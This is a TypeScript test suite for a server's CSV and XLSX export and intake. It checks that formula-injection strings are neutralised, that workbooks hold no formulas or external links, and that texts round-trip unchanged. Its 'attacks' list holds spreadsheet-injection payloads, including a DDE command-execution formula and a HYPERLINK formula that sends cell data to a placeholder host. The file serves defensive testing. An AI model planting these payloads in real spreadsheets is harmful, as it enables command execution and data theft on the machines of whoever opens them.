import { PassThrough } from 'node:stream'
import { buffer } from 'node:stream/consumers'
import { join } from 'node:path'
import { writeFile } from 'node:fs/promises'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { csv } from '../../../server/formats/csv.ts'
import { guarded, unguarded, unguardedSql } from '../../../server/formats/guard.ts'
import { xlsx } from '../../../server/formats/xlsx.ts'
import { quarantineWorkbook, xlsxTemplate } from '../../../server/intake/templates.ts'
import { kindNamed, kinds } from '../../../server/intake/kinds/index.ts'
import type { Answer } from '../../../server/questions/ask.ts'
import { partsOf, rawCells } from '../../help/cells.ts'
import { workshop } from '../intake/decode/help.ts'
import { answer, money, texts } from './help.ts'

const shop = await workshop()
/** DuckDB's binding drops a byte order mark at the head of each text it hands over. */
const heard = (list: string[]) => list.map((text) => text.replace(/^\ufeff/, ''))
const attacks = [
  `=cmd|'/c calc'!A1`,
  '=HYPERLINK("http://x/?a="&A2,"看")',
  '+86 138',
  '-x',
  '@SUM(1+1)',
  '\t=1',
  '\r=1',
  '\n=1',
  ' =1',
  '\u3000=1',
  '\ufeff=1',
  '\u200b@x',
  '\u202e=1',
  '＝1+1',
  '＋1',
  '－1+cmd',
  '＠x',
  `'=1`,
  `''=1`,
  '-5 =1',
  '=1,=2\r\n=3'
]
/** What a workbook cannot hold as it is. */
const escapes = ['_x0041_', 'a_x000D_b', '_x005F_x0041_', '_x_x0041_', '\u0001', 'a\u000bb']
const harmless = ['张三', '-5', '+12.50', '-0.5%', "'张三", "'", 'a=b', '3-5', '1+1', '第=1']

describe('a text a spreadsheet would run', () => {
  it.each(attacks)('%j is led by one apostrophe', (text) => expect(guarded(text)).toBe(`'${text}`))
  it.each(harmless)('%j is none and stays', (text) => expect(guarded(text)).toBe(text))
  it('comes back as it was, in both languages, and only our own guard is taken away', async () => {
    const sign = fc.constantFrom(...`=+-@＝＋－＠'"\t\r\n ,;a1张\u3000\ufeff\u202e\u2066`)
    await fc.assert(
      fc.asyncProperty(fc.array(sign, { maxLength: 6 }), async (signs) => {
        const text = signs.join('')
        const safe = guarded(text)
        expect(unguarded(safe)).toBe(text)
        const [[same, given]] = (
          await shop.db.runAndReadAll(
            `select ${unguardedSql('x')}, ${unguardedSql('y')} from (select $1 as x, $2 as y)`,
            [safe, text]
          )
        ).getRowsJS() as [[string, string]]
        expect([same, given]).toEqual(heard([text, unguarded(text)]))
      }),
      { numRuns: 300, seed: 20261121 }
    )
  })
})

const fens = [-5n, 1234567n, -1234567n]
const hostile = (): Answer => {
  const list = [...attacks, ...harmless]
  return answer([money(list.map((_, n) => fens[n % 3]!)), texts(list)], list.length)
}

describe('a csv of such texts', () => {
  const whole = [...csv(hostile())].join('')
  it('holds no formula for a reader that is not ours, and its amounts are numbers as they were', async () => {
    const path = join(shop.dir, 'export.csv')
    await writeFile(path, whole)
    const table = `read_csv('${path}', header=true, all_varchar=true, quote='"', escape='"', delim=',', new_line='\\r\\n', parallel=false)`
    const read = (await shop.db.runAndReadAll(`select #1, #2 from ${table}`)).getRowsJS() as [
      string,
      string
    ][]
    const values = read.map(([amount]) => amount)
    expect(values.slice(0, 3)).toEqual(['-0.05', '12345.67', '-12345.67'])
    expect(read.map(([, text]) => text)).toEqual([...attacks.map((text) => `'${text}`), ...harmless])
  })
  it('is read back by our intake to the same texts', async () => {
    const { rows, refused } = await shop.load(whole, { headerRow: 1 })
    expect(refused).toEqual([])
    expect(rows.map(([, , text]) => text)).toEqual(heard([...attacks, ...harmless]))
    expect(rows.slice(0, 3).map(([, amount]) => amount)).toEqual(['-0.05', '12345.67', '-12345.67'])
  })
  it('is read back by both of intake’s readers and shown so before', async () => {
    const plain = [...attacks, ...harmless].filter((text) => !/[",\r\n]/.test(text))
    const given = answer([money(plain.map(() => 100n)), texts(plain)], plain.length)
    const source = await shop.look([...csv(given)].join(''), { headerRow: 1 })
    const rows = (await shop.read(source)).rows.map(([, , text]) => text)
    expect(rows).toEqual(heard(plain))
    expect(source.rows.map(([, text]) => text)).toEqual(plain.slice(0, 20))
    const gb = await shop.look(Buffer.from([...csv(given)].join('').slice(1), 'utf16le'), { headerRow: 1 })
    expect((await shop.read(gb)).rows.map(([, , text]) => text)).toEqual(heard(plain))
  })
})

describe('a workbook of such texts', () => {
  const written = async () => {
    const stream = new PassThrough()
    const [bytes] = await Promise.all([buffer(stream), xlsx(hostile(), stream)])
    return bytes
  }
  it('types them as texts, also when they are edited, and its amounts as numbers', async () => {
    const cells = await rawCells(await written())
    expect(cells.filter(({ formula }) => formula)).toEqual([])
    const [amounts, words] = ['A', 'B'].map((column) =>
      cells
        .filter(({ at }) => new RegExp(`^${column}\\d+$`).test(at))
        .slice(1, attacks.length + harmless.length + 1)
    ) as [typeof cells, typeof cells]
    expect(amounts.slice(0, 3).map(({ type, text }) => [type, text])).toEqual([
      ['', '-0.05'],
      ['', '12345.67'],
      ['', '-12345.67']
    ])
    expect(words.map(({ text }) => text)).toEqual([...attacks, ...harmless])
    expect(new Set(words.map(({ type, format }) => `${type} ${format}`))).toEqual(new Set(['inlineStr @']))
  })
  it('links to nothing', async () => {
    const parts = await partsOf(await written())
    expect(
      [...parts.keys()].filter((name) => /externalLink|hyperlink|connections|\.bin$/i.test(name))
    ).toEqual([])
    for (const [name, xml] of parts) if (name.endsWith('.rels')) expect(xml, name).not.toContain('TargetMode')
  })
  it('is read back by our intake to the same texts', async () => {
    const source = await shop.look(await written(), { headerRow: 1 }, 'a.xlsx')
    expect((await shop.read(source)).rows.map(([, , text]) => text)).toEqual(heard([...attacks, ...harmless]))
  })
  it('keeps escapes and characters that XML cannot hold', async () => {
    const list = [...escapes, 'a\r\nb', ' 前后 ', '<&>"\'', '🌾']
    const stream = new PassThrough()
    const given = answer([money(list.map(() => 1n)), texts(list)], list.length)
    const [bytes] = await Promise.all([buffer(stream), xlsx(given, stream)])
    const source = await shop.look(bytes, { headerRow: 1 }, 'a.xlsx')
    expect((await shop.read(source)).rows.map(([, , text]) => text)).toEqual(list)
  })
})

describe('a workbook of quarantined rows', () => {
  const kind = kindNamed('disbursements')!
  const bytes = async () => {
    async function* rows() {
      for (const [n, text] of [...attacks, '_x0041_', 'a_x000D_b'].entries())
        yield {
          line: n + 2,
          values: { 明细编号: text, 收款人姓名: text, 补贴金额: '-60.00' },
          faults: [{ header: '补贴金额', zh: text }]
        }
      yield { line: 99, values: { 整行: '=1+1,=2' }, faults: [{ header: '', zh: '多出一列' }] }
    }
    return quarantineWorkbook(kind, rows())
  }
  it('types every cell as text, also when it is edited', async () => {
    const cells = (await rawCells(await bytes())).filter(
      ({ at, text }) => text !== '' && !/^[A-Z]+1$/.test(at)
    )
    expect(cells.filter(({ formula }) => formula)).toEqual([])
    expect(new Set(cells.map(({ type }) => type))).toEqual(new Set(['s']))
    expect(cells.filter(({ format }) => format !== '@').map(({ at }) => at)).toEqual([])
    for (const text of [...attacks, '=1+1,=2'])
      expect(
        cells.some((cell) => cell.text === text),
        text
      ).toBe(true)
  })
  it('is read back by our intake to the same texts', async () => {
    const source = await shop.look(await bytes(), {}, '待更正.xlsx')
    const at = source.headers.indexOf('收款人姓名') + 1
    expect(at).toBeGreaterThan(0)
    expect((await shop.read(source)).rows.map((row) => row[at])).toEqual(
      heard([...attacks, '_x0041_', 'a_x000D_b'])
    )
  })
})

describe('templates', () => {
  it.each(kinds.map((kind) => [kind.name, kind] as const))('of %s hold texts only', async (_name, kind) => {
    const cells = await rawCells(await xlsxTemplate(kind))
    expect(cells.filter(({ formula, text }) => formula || guarded(text) !== text)).toEqual([])
    expect(cells.length).toBeGreaterThan(kind.columns.length)
  })
})
